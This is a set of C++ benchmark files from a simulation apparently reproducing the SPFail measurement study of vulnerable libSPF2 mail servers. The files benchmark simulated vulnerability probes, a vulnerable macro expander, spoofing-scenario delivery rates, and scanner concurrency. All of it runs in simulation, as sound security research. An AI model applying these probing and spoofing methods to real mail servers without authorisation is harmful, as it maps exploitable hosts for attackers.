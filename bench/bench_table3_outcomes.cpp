// Table 3 — NoMsg/BlankMsg test outcomes by domain set.
#include "bench_common.hpp"

#include "mta/host.hpp"
#include "scan/prober.hpp"

namespace {

// Time one full NoMsg probe against an in-memory vulnerable MTA.
void BM_NoMsgProbe(benchmark::State& state) {
  using namespace spfail;
  dns::AuthoritativeServer server;
  util::SimClock clock;
  const auto responder = scan::install_test_responder(server);
  mta::HostProfile profile;
  profile.address = util::IpAddress::v4(203, 0, 113, 1);
  profile.behaviors = {spfvuln::SpfBehavior::VulnerableLibspf2};
  mta::MailHost host(profile, server, clock);
  scan::ProberConfig config;
  config.responder = responder;
  net::Transport transport(clock);
  scan::Prober prober(config, server, transport);
  std::uint64_t i = 0;
  for (auto _ : state) {
    const auto mail_from = dns::Name::lenient(
        "x" + std::to_string(i++) + ".t0.spf-test.dns-lab.org");
    benchmark::DoNotOptimize(
        prober.probe(host, "target.example", mail_from, scan::TestKind::NoMsg));
  }
}
BENCHMARK(BM_NoMsgProbe)->Unit(benchmark::kMicrosecond);

void BM_BlankMsgProbe(benchmark::State& state) {
  using namespace spfail;
  dns::AuthoritativeServer server;
  util::SimClock clock;
  const auto responder = scan::install_test_responder(server);
  mta::HostProfile profile;
  profile.address = util::IpAddress::v4(203, 0, 113, 2);
  profile.spf_timing = mta::SpfTiming::AfterData;
  profile.behaviors = {spfvuln::SpfBehavior::RfcCompliant};
  mta::MailHost host(profile, server, clock);
  scan::ProberConfig config;
  config.responder = responder;
  net::Transport transport(clock);
  scan::Prober prober(config, server, transport);
  std::uint64_t i = 0;
  for (auto _ : state) {
    const auto mail_from = dns::Name::lenient(
        "y" + std::to_string(i++) + ".t0.spf-test.dns-lab.org");
    benchmark::DoNotOptimize(prober.probe(host, "target.example", mail_from,
                                          scan::TestKind::BlankMsg));
  }
}
BENCHMARK(BM_BlankMsgProbe)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Table 3: NoMsg/BlankMsg test outcomes by domain set",
      "SPFail, section 7.1", session);
  std::cout << spfail::report::table3_outcomes(session.fleet(),
                                               session.initial())
            << "\n"
            << "Paper (addresses): Alexa — 47% refused; of NoMsg-tested 37% "
               "SMTP failure, 13% measured; of BlankMsg-tested 58% measured; "
               "23% measured in total.\n"
               "2-Week MX — 25% refused; 23% measured in NoMsg; 38% total.\n"
               "Top providers: 0 refused, 2 SMTP-broken, 5 NoMsg-measured, "
               "8 BlankMsg-measured, 13 measured of 20.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
