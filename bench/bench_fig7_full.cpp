// Figure 7 — vulnerability rates per domain list, full four-month window.
#include "bench_common.hpp"

#include <memory>

#include "util/stats.hpp"

namespace {

// The whole longitudinal machine end to end at a tiny scale: this is the
// workload every figure in section 7.6 is computed from.
void BM_FullStudyTinyScale(benchmark::State& state) {
  for (auto _ : state) {
    spfail::population::FleetConfig config;
    config.scale = 0.005;
    config.mix = spfail::population::PolicyMix::paper_baseline();
    spfail::population::Fleet fleet(config);
    spfail::longitudinal::Study study(fleet);
    benchmark::DoNotOptimize(study.run());
  }
}
BENCHMARK(BM_FullStudyTinyScale)->Unit(benchmark::kMillisecond);

// The same workload at a scale where sharding pays, across thread counts.
// Fleet synthesis (serial by design) is excluded from the timing so the
// number measures the scan engine itself. The report is bit-identical at
// every Arg — only the wall-clock should move.
void BM_FullStudyThreads(benchmark::State& state) {
  for (auto _ : state) {
    state.PauseTiming();
    spfail::population::FleetConfig config;
    config.scale = 0.02;
    config.mix = spfail::population::PolicyMix::paper_baseline();
    auto fleet = std::make_unique<spfail::population::Fleet>(config);
    spfail::longitudinal::StudyConfig study_config;
    study_config.threads = static_cast<int>(state.range(0));
    spfail::longitudinal::Study study(*fleet, study_config);
    state.ResumeTiming();
    benchmark::DoNotOptimize(study.run());
    state.PauseTiming();
    fleet.reset();
    state.ResumeTiming();
  }
}
BENCHMARK(BM_FullStudyThreads)
    ->Arg(1)
    ->Arg(2)
    ->Arg(4)
    ->Arg(8)
    ->Unit(benchmark::kMillisecond)
    ->UseRealTime();

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Figure 7: libSPF2 vulnerability rates per domain list across the full "
      "measurement period (Oct 2021 - Feb 2022)",
      "SPFail, section 7.6", session);
  const auto table = spfail::report::fig67_vulnerability_series(
      session.fleet(), session.study(), /*window1_only=*/false);
  spfail::bench::maybe_export_csv(session, "fig7_full", table);
  std::cout << table << "\n";
  for (const auto cohort :
       {spfail::longitudinal::Cohort::All,
        spfail::longitudinal::Cohort::AlexaTopList,
        spfail::longitudinal::Cohort::TwoWeekMx}) {
    const auto series =
        spfail::report::vulnerability_series(session.fleet(), session.study(),
                                             cohort);
    std::cout << "  " << spfail::util::sparkline(series) << "  "
              << to_string(cohort) << " (% vulnerable over time)\n";
  }
  std::cout << "\n"
            << "Paper: a pronounced drop right after the public disclosure "
               "(Jan 19, 2022, coinciding with the Debian patch), strongest "
               "in the Alexa Top List; just over 80% of inferable domains "
               "were still vulnerable at the end.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
