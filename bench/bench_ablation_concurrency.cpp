// Ablation: the 250-connection concurrency cap (§6.1).
//
// The paper caps the scanner at 250 concurrent outgoing SMTP connections and
// waits 90 s between connections to the same host/domain. This bench replays
// the initial measurement's time accounting under several caps and reports
// the simulated wall-clock duration of one full round — the trade the
// authors made between scan duration and per-target network load.
#include "bench_common.hpp"

#include <chrono>

namespace {

using namespace spfail;

util::SimTime round_duration(double scale, int cap) {
  population::FleetConfig config;
  config.scale = scale;
  population::Fleet fleet(config);

  scan::CampaignConfig campaign_config;
  campaign_config.prober.responder = fleet.responder();
  campaign_config.max_concurrent_connections = cap;
  scan::Campaign campaign(campaign_config, fleet.dns(), fleet.clock(), fleet);

  const util::SimTime start = fleet.clock().now();
  campaign.run(fleet.targets());
  return fleet.clock().now() - start;
}

// Real wall-clock of one initial campaign round at a given worker-thread
// count (the sharded scan engine; report bit-identical at every count).
double round_wall_seconds(double scale, int threads) {
  population::FleetConfig config;
  config.scale = scale;
  population::Fleet fleet(config);

  scan::CampaignConfig campaign_config;
  campaign_config.prober.responder = fleet.responder();
  campaign_config.threads = threads;
  scan::Campaign campaign(campaign_config, fleet.dns(), fleet.clock(), fleet);

  const auto start = std::chrono::steady_clock::now();
  campaign.run(fleet.targets());
  const auto end = std::chrono::steady_clock::now();
  return std::chrono::duration<double>(end - start).count();
}

void BM_CampaignRound(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(round_duration(0.003, 250));
  }
}
BENCHMARK(BM_CampaignRound)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session(0.02);
  spfail::bench::print_header(
      "Ablation: scanner concurrency cap vs simulated scan duration",
      "SPFail, section 6.1 — 250 concurrent connections, 90 s gaps", session);

  util::TextTable table({"Concurrency cap", "Simulated round duration",
                         "Relative"},
                        {util::Align::Right, util::Align::Right,
                         util::Align::Right});
  const double scale = session.scale();
  const std::vector<int> caps = {1, 25, 250, 1000};
  std::vector<util::SimTime> durations;
  util::SimTime base = 1;
  for (const int cap : caps) {
    durations.push_back(round_duration(scale, cap));
    if (cap == 250) base = std::max<util::SimTime>(1, durations.back());
  }
  for (std::size_t i = 0; i < caps.size(); ++i) {
    const double days = static_cast<double>(durations[i]) / util::kDay;
    char day_buf[64], rel_buf[64];
    std::snprintf(day_buf, sizeof(day_buf), "%.2f days", days);
    std::snprintf(rel_buf, sizeof(rel_buf), "%.1fx",
                  static_cast<double>(durations[i]) /
                      static_cast<double>(base));
    table.add_row({std::to_string(caps[i]), day_buf, rel_buf});
  }
  std::cout << table << "\n"
            << "Reading: a serial scanner (cap 1) would need months per "
               "round — incompatible with the 2-day longitudinal cadence — "
               "while caps beyond 250 stop paying because per-host gaps and "
               "greylist backoffs dominate. 250 keeps a full round well "
               "under the cadence with bounded per-target load.\n\n";

  // The second axis: real worker threads in the sharded scan engine. Unlike
  // the simulated cap above (which changes the modelled timeline), threads
  // change only how fast we compute it — the report stays bit-identical.
  util::TextTable thread_table(
      {"Worker threads", "Wall-clock (one round)", "Speedup"},
      {util::Align::Right, util::Align::Right, util::Align::Right});
  const std::vector<int> thread_counts = {1, 2, 4, 8};
  double serial_seconds = 0.0;
  for (const int threads : thread_counts) {
    const double seconds = round_wall_seconds(scale, threads);
    if (threads == 1) serial_seconds = seconds;
    char sec_buf[64], speedup_buf[64];
    std::snprintf(sec_buf, sizeof(sec_buf), "%.3f s", seconds);
    std::snprintf(speedup_buf, sizeof(speedup_buf), "%.2fx",
                  seconds > 0.0 ? serial_seconds / seconds : 0.0);
    thread_table.add_row({std::to_string(threads), sec_buf, speedup_buf});
  }
  std::cout << thread_table << "\n"
            << "Reading: shards are contiguous slices of the address-sorted "
               "work list, each with its own prober, RNG lane, clock lane "
               "and query-log lane, merged deterministically afterwards — so "
               "the speedup is pure implementation, not a model change.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
