// Figure 2 — final patched/vulnerable/unknown distribution per cohort.
#include "bench_common.hpp"

#include "longitudinal/inference.hpp"

namespace {

void BM_InferSeries(benchmark::State& state) {
  using namespace spfail::longitudinal;
  Series series(34, Observation::Inconclusive);
  series[3] = Observation::Vulnerable;
  series[20] = Observation::Vulnerable;
  series[28] = Observation::Compliant;
  for (auto _ : state) {
    benchmark::DoNotOptimize(infer(series));
  }
}
BENCHMARK(BM_InferSeries);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Figure 2: Final vulnerability distribution of initially vulnerable "
      "domains (February 2022 snapshot)",
      "SPFail, section 7.2", session);
  std::cout << spfail::report::fig2_final_distribution(session.fleet(),
                                                       session.study())
            << "\n"
            << "Paper: ~15% of all initially vulnerable domains patched; the "
               "Alexa Top 1000 patched least (<10%); the 2-Week MX set had "
               "the most inconclusive domains.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
