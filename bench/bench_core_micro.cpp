// Core microbenchmarks: the primitive operations everything else composes.
#include "bench_common.hpp"

#include "dns/message.hpp"
#include "spf/record.hpp"
#include "spfvuln/libspf2_expander.hpp"

namespace {

using namespace spfail;

spf::MacroContext bench_context() {
  spf::MacroContext ctx;
  ctx.sender_local = "user";
  ctx.sender_domain = dns::Name::from_string("mail.example.com");
  ctx.current_domain = ctx.sender_domain;
  ctx.client_ip = util::IpAddress::v4(203, 0, 113, 7);
  return ctx;
}

void BM_MacroExpandRfc(benchmark::State& state) {
  const spf::Rfc7208Expander expander;
  const auto ctx = bench_context();
  for (auto _ : state) {
    benchmark::DoNotOptimize(expander.expand("%{d1r}.foo.com", ctx));
  }
}
BENCHMARK(BM_MacroExpandRfc);

void BM_MacroExpandVulnerable(benchmark::State& state) {
  const spfvuln::Libspf2Expander expander;
  const auto ctx = bench_context();
  for (auto _ : state) {
    benchmark::DoNotOptimize(expander.expand("%{d1r}.foo.com", ctx));
  }
}
BENCHMARK(BM_MacroExpandVulnerable);

void BM_RecordParse(benchmark::State& state) {
  constexpr std::string_view kRecord =
      "v=spf1 a:foo.example.com mx/24 ip4:192.0.2.0/24 ip6:2001:db8::/32 "
      "include:bar.org exists:%{i}._spf.%{d2} redirect=_spf.example.com";
  for (auto _ : state) {
    benchmark::DoNotOptimize(spf::parse_record(kRecord));
  }
}
BENCHMARK(BM_RecordParse);

void BM_WireEncodeDecode(benchmark::State& state) {
  dns::Message query = dns::Message::make_query(
      1, dns::Name::from_string("ab1cd.t0.spf-test.dns-lab.org"),
      dns::RRType::TXT);
  dns::Message response = dns::Message::make_response(query, dns::Rcode::NoError);
  response.answers.push_back(dns::ResourceRecord::txt(
      query.questions[0].qname,
      "v=spf1 a:%{d1r}.ab1cd.t0.spf-test.dns-lab.org "
      "a:b.ab1cd.t0.spf-test.dns-lab.org -all"));
  for (auto _ : state) {
    benchmark::DoNotOptimize(dns::decode(dns::encode(response)));
  }
}
BENCHMARK(BM_WireEncodeDecode);

void BM_ExpandItemOverflowAccounting(benchmark::State& state) {
  spf::MacroItem item;
  item.letter = 'd';
  item.keep = 1;
  item.reverse = true;
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        spfvuln::libspf2_expand_item(item, "a.b.c.d.e.example.com"));
  }
}
BENCHMARK(BM_ExpandItemOverflowAccounting);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session(0.001);
  spfail::bench::print_header(
      "Core microbenchmarks: macro expansion, record parsing, wire codec",
      "supporting primitives for every experiment", session);
  std::cout << "\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
