// Scenario attack-matrix bench (DESIGN.md §17).
//
// For every non-baseline built-in ScenarioSpec, builds a fleet staged with
// that spec's own PolicyMix, drives the scenario runner's mail flows over
// it, prints the measured outcome table, and checks the four oracle rates
// against the spec's expected-outcome windows. The baseline spec is also
// exercised, as the control: it must stage zero domains and measure zero
// flows. Any oracle violation makes the bench exit nonzero, so CI catches a
// regression in the SPF/DKIM/DMARC receiver pipeline that shifts scenario
// outcomes — not just one that crashes.
//
// Everything here is simulated and deterministic: the same binary, seed,
// and scale produce byte-identical tables and JSON (modulo nothing — there
// is no wall-clock lane in this bench).
//
// Results go to stdout as a table and to --out (default
// BENCH_scenarios.json) as machine-readable JSON.
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <string>
#include <vector>

#include "population/fleet.hpp"
#include "scenario/runner.hpp"
#include "scenario/scenario.hpp"
#include "util/table.hpp"

namespace {

using namespace spfail;

struct Measured {
  const scenario::ScenarioSpec* spec = nullptr;
  scenario::ScenarioReport report;
  bool ok = false;
};

std::string fmt_rate(double v) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%.3f", v);
  return std::string(buf);
}

std::string fmt_window(const scenario::RateWindow& w) {
  return "[" + fmt_rate(w.lo) + ", " + fmt_rate(w.hi) + "]";
}

}  // namespace

int main(int argc, char** argv) {
  std::string out_path = "BENCH_scenarios.json";
  double scale = 0.02;
  std::uint64_t seed = 2021;
  std::size_t max_domains = 4096;
  std::size_t rounds = 8;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::cerr << "missing value for " << arg << "\n";
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--out") {
      out_path = next();
    } else if (arg == "--scale") {
      scale = std::strtod(next(), nullptr);
    } else if (arg == "--seed") {
      seed = std::strtoull(next(), nullptr, 10);
    } else if (arg == "--max-domains") {
      max_domains = std::strtoull(next(), nullptr, 10);
    } else if (arg == "--rounds") {
      rounds = std::strtoull(next(), nullptr, 10);
    } else {
      std::cerr << "unknown option " << arg
                << " (expected --out PATH, --scale S, --seed N, "
                   "--max-domains N, --rounds N)\n";
      return 2;
    }
  }

  std::cout << "Scenario attack matrix (DESIGN.md §17): scale " << scale
            << ", seed " << seed << "\n\n";

  std::vector<Measured> results;
  bool all_ok = true;
  for (const scenario::ScenarioSpec& spec : scenario::builtin_scenarios()) {
    population::FleetConfig config;
    config.scale = scale;
    config.seed = seed;
    config.mix = spec.mix;
    population::Fleet fleet(config);

    scenario::RunnerOptions options;
    options.seed = seed;
    options.max_domains = max_domains;
    options.rounds = rounds;

    Measured measured;
    measured.spec = &spec;
    measured.report = scenario::run_scenario(fleet, spec, options);
    if (spec.focus == scenario::Focus::Baseline) {
      // The control: nothing staged, nothing measured.
      measured.ok = measured.report.domains_staged == 0 &&
                    measured.report.legit.flows == 0 &&
                    measured.report.forwarded.flows == 0 &&
                    measured.report.spoof.flows == 0;
    } else {
      measured.ok = measured.report.domains_staged > 0 &&
                    measured.report.satisfies(spec.oracle);
    }
    all_ok = all_ok && measured.ok;
    results.push_back(std::move(measured));
  }

  util::TextTable table(
      {"Scenario", "Domains", "Spoof deliv", "Spoof rej", "Legit rej",
       "PermErr", "Oracle"},
      {util::Align::Left, util::Align::Right, util::Align::Right,
       util::Align::Right, util::Align::Right, util::Align::Right,
       util::Align::Left});
  for (const Measured& m : results) {
    table.add_row({m.spec->name + " v" + std::to_string(m.spec->version),
                   std::to_string(m.report.domains_staged),
                   fmt_rate(m.report.spoof_delivered_rate()),
                   fmt_rate(m.report.spoof_rejected_rate()),
                   fmt_rate(m.report.legit_rejected_rate()),
                   fmt_rate(m.report.permerror_rate()),
                   m.ok ? "pass" : "FAIL"});
  }
  std::cout << table << "\n";

  for (const Measured& m : results) {
    if (m.ok) continue;
    std::cerr << "oracle violation: " << m.spec->name << " expected "
              << "spoof_delivered " << fmt_window(m.spec->oracle.spoof_delivered)
              << ", spoof_rejected " << fmt_window(m.spec->oracle.spoof_rejected)
              << ", legit_rejected " << fmt_window(m.spec->oracle.legit_rejected)
              << ", permerror " << fmt_window(m.spec->oracle.permerror)
              << "; measured " << fmt_rate(m.report.spoof_delivered_rate())
              << " / " << fmt_rate(m.report.spoof_rejected_rate()) << " / "
              << fmt_rate(m.report.legit_rejected_rate()) << " / "
              << fmt_rate(m.report.permerror_rate()) << " over "
              << m.report.domains_staged << " domains\n";
  }

  std::ofstream out(out_path, std::ios::trunc);
  if (!out) {
    std::cerr << "warning: cannot write " << out_path << "\n";
    return all_ok ? 0 : 1;
  }
  out << "{\n  \"scale\": " << scale << ",\n  \"seed\": " << seed
      << ",\n  \"scenarios\": [\n";
  for (std::size_t i = 0; i < results.size(); ++i) {
    const Measured& m = results[i];
    const auto tally = [&](const char* key, const scenario::FlowTally& t,
                           const char* trailing) {
      out << "      \"" << key << "\": {\"flows\": " << t.flows
          << ", \"delivered\": " << t.delivered
          << ", \"rejected\": " << t.rejected
          << ", \"quarantined\": " << t.quarantined
          << ", \"spf_permerror\": " << t.spf_permerror
          << ", \"dmarc_sampled_out\": " << t.dmarc_sampled_out << "}"
          << trailing << "\n";
    };
    out << "    {\n      \"name\": \"" << m.spec->name << "\",\n"
        << "      \"version\": " << m.spec->version << ",\n"
        << "      \"domains_staged\": " << m.report.domains_staged << ",\n"
        << "      \"truncated\": " << (m.report.truncated ? "true" : "false")
        << ",\n";
    tally("legit", m.report.legit, ",");
    tally("forwarded", m.report.forwarded, ",");
    tally("spoof", m.report.spoof, ",");
    out << "      \"rounds\": [\n";
    for (std::size_t r = 0; r < m.report.rounds.size(); ++r) {
      const scenario::RoundTallies& rt = m.report.rounds[r];
      out << "        {\"round\": " << r
          << ", \"spoof_delivered_rate\": " << rt.spoof_delivered_rate()
          << ", \"legit_rejected_rate\": " << rt.legit_rejected_rate()
          << ", \"spoof_flows\": " << rt.spoof.flows
          << ", \"spoof_delivered\": " << rt.spoof.delivered
          << ", \"legit_rejected\": " << rt.legit.rejected << "}"
          << (r + 1 < m.report.rounds.size() ? "," : "") << "\n";
    }
    out << "      ],\n";
    out << "      \"spoof_delivered_rate\": "
        << m.report.spoof_delivered_rate() << ",\n"
        << "      \"spoof_rejected_rate\": " << m.report.spoof_rejected_rate()
        << ",\n"
        << "      \"legit_rejected_rate\": " << m.report.legit_rejected_rate()
        << ",\n"
        << "      \"permerror_rate\": " << m.report.permerror_rate() << ",\n"
        << "      \"oracle_ok\": " << (m.ok ? "true" : "false")
        << "\n    }" << (i + 1 < results.size() ? "," : "") << "\n";
  }
  out << "  ]\n}\n";
  std::cout << "(json written to " << out_path << ")\n";
  return all_ok ? 0 : 1;
}
