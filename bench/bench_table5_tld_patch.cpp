// Table 5 — best/worst patch rates by TLD.
#include "bench_common.hpp"

#include "longitudinal/patch_model.hpp"

namespace {

void BM_PatchDecision(benchmark::State& state) {
  spfail::longitudinal::PatchModel model;
  spfail::longitudinal::PatchContext context;
  context.tld = "com";
  for (auto _ : state) {
    benchmark::DoNotOptimize(model.decide(context));
  }
}
BENCHMARK(BM_PatchDecision);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Table 5: Best/worst patch rates for TLDs with enough initially "
      "vulnerable domains",
      "SPFail, section 7.3", session);
  std::cout << spfail::report::table5_tld_patch(session.fleet(),
                                                session.study())
            << "\n"
            << "Paper: best — za 79%, gr 75%, de 46%, eu 29%, tr 28%; "
               "worst — ir 3%, il 3%, by 2%, ru 2%, tw 0%. Reference: com "
               "patched 1,266 of 8,412 (15%).\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
