// Figure 8 — conclusive results over time for the Alexa Top 1000 cohort.
#include "bench_common.hpp"

namespace {

void BM_StudySeriesExtraction(benchmark::State& state) {
  static spfail::report::ReproSession session(0.02);
  const auto& study = session.study();
  for (auto _ : state) {
    for (std::size_t round = 0; round < study.round_times.size(); ++round) {
      benchmark::DoNotOptimize(spfail::longitudinal::Study::domain_counts_at(
          study, session.fleet(), round,
          spfail::longitudinal::Cohort::Alexa1000));
    }
  }
}
BENCHMARK(BM_StudySeriesExtraction)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Figure 8: Conclusive vulnerability results over time, Alexa Top 1000",
      "SPFail, sections 7.5-7.6", session);
  const auto table = spfail::report::fig5_conclusive_series(
      session.fleet(), session.study(),
      spfail::longitudinal::Cohort::Alexa1000);
  spfail::bench::maybe_export_csv(session, "fig8_alexa1000", table);
  std::cout << table
            << "\n"
            << "Paper: 28 Top-1000 domains (87 servers) initially vulnerable; "
               "conclusive measurements collapsed around mid-November "
               "(scanner blacklisting by high-profile infrastructure); no "
               "longitudinal patching was observed, and only the final "
               "re-resolved snapshot recovered most of the cohort.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
