// Table 6 — package-manager patch timeline for both libSPF2 CVEs.
#include "bench_common.hpp"

#include "longitudinal/pkgmgr.hpp"

namespace {

void BM_LatencyCellRendering(benchmark::State& state) {
  const auto table = spfail::longitudinal::package_manager_table();
  for (auto _ : state) {
    for (const auto& record : table) {
      benchmark::DoNotOptimize(
          spfail::longitudinal::patch_latency_cell(record, true));
    }
  }
}
BENCHMARK(BM_LatencyCellRendering);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Table 6: Package-manager patch timeline (days from disclosure)",
      "SPFail, section 7.8", session);
  std::cout << spfail::report::table6_pkgmgr() << "\n"
            << "Paper: Debian/Alpine patched CVE-2021-20314 on disclosure "
               "day; RedHat/Gentoo/Arch bundled the 33912/13 fixes with that "
               "update (0*); Ubuntu, FreeBSD Ports, NetBSD and SUSE Hub "
               "remained unpatched through the study.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
