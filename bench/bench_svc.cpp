// Scan-service throughput bench (DESIGN.md §18).
//
// Drives the ServiceLoop end to end: submits a batch of small scan jobs
// through the control file, runs the service to drain, and reports
//
//   - jobs/sec: completed runs over wall time (the service's end-to-end
//     throughput, scan work included);
//   - ticks/sec: scheduler overhead lane — how fast the tick machinery
//     itself turns over;
//   - time-to-admission: the svc_admission_wait_ticks histogram's p50/p95
//     and max, in ticks — what queueing plus admission control cost jobs
//     before their first round ran.
//
// The wall-clock numbers are machine-dependent (informational); the
// admission-wait distribution is deterministic for a fixed script, so a
// shifted p95 in CI is a real scheduling regression, not noise. Results go
// to stdout and to --out (default BENCH_svc.json).
#include <chrono>
#include <cstdint>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <string>

#include "svc/service.hpp"

namespace {

using namespace spfail;

}  // namespace

int main(int argc, char** argv) {
  std::string out_path = "BENCH_svc.json";
  std::string work_dir = "bench_svc_work";
  double scale = 0.004;
  std::size_t jobs = 6;
  int max_active = 2;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::cerr << "missing value for " << arg << "\n";
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--out") {
      out_path = next();
    } else if (arg == "--dir") {
      work_dir = next();
    } else if (arg == "--scale") {
      scale = std::strtod(next(), nullptr);
    } else if (arg == "--jobs") {
      jobs = std::strtoull(next(), nullptr, 10);
    } else if (arg == "--max-active") {
      max_active = static_cast<int>(std::strtol(next(), nullptr, 10));
    } else {
      std::cerr << "unknown option " << arg
                << " (expected --out PATH, --dir DIR, --scale S, --jobs N, "
                   "--max-active N)\n";
      return 2;
    }
  }

  if (jobs == 0 || scale <= 0.0 || max_active < 1) {
    std::cerr << "need --jobs >= 1, --scale > 0, --max-active >= 1\n";
    return 2;
  }

  std::filesystem::remove_all(work_dir);
  std::filesystem::create_directories(work_dir);

  // Build the control script: `jobs` submissions with distinct seeds (so the
  // derived network footprints overlap only by chance) and a final drain.
  std::string script;
  for (std::size_t i = 0; i < jobs; ++i) {
    script += "submit job" + std::to_string(i) + " scale " +
              std::to_string(scale) + " seed " + std::to_string(100 + i) +
              "\n";
  }
  script += "drain\n";
  const std::string control_path = work_dir + "/control.txt";
  {
    std::ofstream control(control_path, std::ios::trunc);
    control << script;
  }

  svc::SvcConfig config;
  config.dir = work_dir + "/state";
  config.control = control_path;
  config.max_active_jobs = max_active;
  config.rounds_per_tick = 8;

  svc::ServiceLoop loop(config);
  const auto start = std::chrono::steady_clock::now();
  const svc::ServiceLoop::Status status = loop.run();
  const auto stop = std::chrono::steady_clock::now();
  const double seconds =
      std::chrono::duration<double>(stop - start).count();

  if (status != svc::ServiceLoop::Status::Drained) {
    std::cerr << "service did not drain: " << svc::to_string(status) << "\n";
    return 1;
  }

  const obs::Registry& reg = loop.metrics();
  const std::uint64_t completed =
      reg.find("svc_jobs_completed_total")->cells.at("").counter;
  if (completed != jobs) {
    std::cerr << "expected " << jobs << " completed jobs, saw " << completed
              << "\n";
    return 1;
  }
  const obs::Histogram& wait =
      reg.find("svc_admission_wait_ticks")->cells.at("").histogram;

  const double jobs_per_sec = completed / seconds;
  const double ticks_per_sec = loop.ticks() / seconds;
  std::cout << "Scan service bench (DESIGN.md §18): " << jobs
            << " jobs at scale " << scale << ", " << max_active
            << " active slots\n"
            << "  drained in " << seconds << " s over " << loop.ticks()
            << " ticks\n"
            << "  jobs/sec  " << jobs_per_sec << "\n"
            << "  ticks/sec " << ticks_per_sec << "\n"
            << "  time-to-admission (ticks): p50 " << wait.quantile(0.5)
            << ", p95 " << wait.quantile(0.95) << ", max " << wait.max()
            << "\n";

  std::ofstream out(out_path, std::ios::trunc);
  if (!out) {
    std::cerr << "warning: cannot write " << out_path << "\n";
    return 0;
  }
  out << "{\n  \"jobs\": " << jobs << ",\n  \"scale\": " << scale
      << ",\n  \"max_active\": " << max_active
      << ",\n  \"ticks\": " << loop.ticks()
      << ",\n  \"seconds\": " << seconds
      << ",\n  \"jobs_per_sec\": " << jobs_per_sec
      << ",\n  \"ticks_per_sec\": " << ticks_per_sec
      << ",\n  \"admission_wait_ticks\": {\"p50\": " << wait.quantile(0.5)
      << ", \"p95\": " << wait.quantile(0.95) << ", \"max\": " << wait.max()
      << ", \"count\": " << wait.count() << "}\n}\n";
  std::cout << "(json written to " << out_path << ")\n";
  return 0;
}
