// Memory-shape bench for the interned, streaming population (DESIGN.md §14).
//
// ROADMAP item 3: memory, not CPU, is what caps campaign size. This binary
// quantifies the two fleet modes against each other with a counting global
// allocator:
//
//   eager  — the pre-§14 shape: every MailHost resident for the fleet's
//            lifetime and the target list materialised as owning
//            std::string/std::vector copies (Fleet::targets()).
//   lazy   — hosts stream through Fleet::release_host eviction and the
//            campaign consumes the zero-copy scan::TargetSource view.
//
// For each lane it reports heap allocation count/bytes and peak heap during
// population build + target assembly, then runs the same initial campaign
// and reports its peak on top. bytes/host is peak-build-heap divided by the
// address count. Interner statistics (hits/misses/distinct bytes) show how
// much text the table deduplicated. Results go to stdout as a table and to
// --out (default BENCH_memory.json) as machine-readable JSON; --budget N
// makes the process exit nonzero when the lazy lane's bytes/host exceeds N,
// which is what the `memory_budget` ctest pins.
#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <new>
#include <string>

#if defined(__GLIBC__)
#include <malloc.h>
#endif

#include "population/fleet.hpp"
#include "scan/campaign.hpp"
#include "util/table.hpp"

// ----------------------------------------------------------- counting new
// Every allocation in the binary flows through here. Freed size is recovered
// with malloc_usable_size so current/peak stay exact without a side table.

namespace {

std::atomic<std::uint64_t> g_alloc_count{0};
std::atomic<std::uint64_t> g_alloc_bytes{0};
std::atomic<std::uint64_t> g_current_bytes{0};
std::atomic<std::uint64_t> g_peak_bytes{0};

void note_alloc(void* ptr, std::size_t requested) {
#if defined(__GLIBC__)
  const std::uint64_t bytes = malloc_usable_size(ptr);
#else
  (void)ptr;
  const std::uint64_t bytes = requested;
#endif
  g_alloc_count.fetch_add(1, std::memory_order_relaxed);
  g_alloc_bytes.fetch_add(bytes, std::memory_order_relaxed);
  const std::uint64_t now =
      g_current_bytes.fetch_add(bytes, std::memory_order_relaxed) + bytes;
  std::uint64_t peak = g_peak_bytes.load(std::memory_order_relaxed);
  while (now > peak &&
         !g_peak_bytes.compare_exchange_weak(peak, now,
                                             std::memory_order_relaxed)) {
  }
  (void)requested;
}

void note_free(void* ptr) {
  if (ptr == nullptr) return;
#if defined(__GLIBC__)
  g_current_bytes.fetch_sub(malloc_usable_size(ptr),
                            std::memory_order_relaxed);
#endif
}

}  // namespace

void* operator new(std::size_t size) {
  void* ptr = std::malloc(size == 0 ? 1 : size);
  if (ptr == nullptr) throw std::bad_alloc();
  note_alloc(ptr, size);
  return ptr;
}

void* operator new[](std::size_t size) { return ::operator new(size); }

void operator delete(void* ptr) noexcept {
  note_free(ptr);
  std::free(ptr);
}

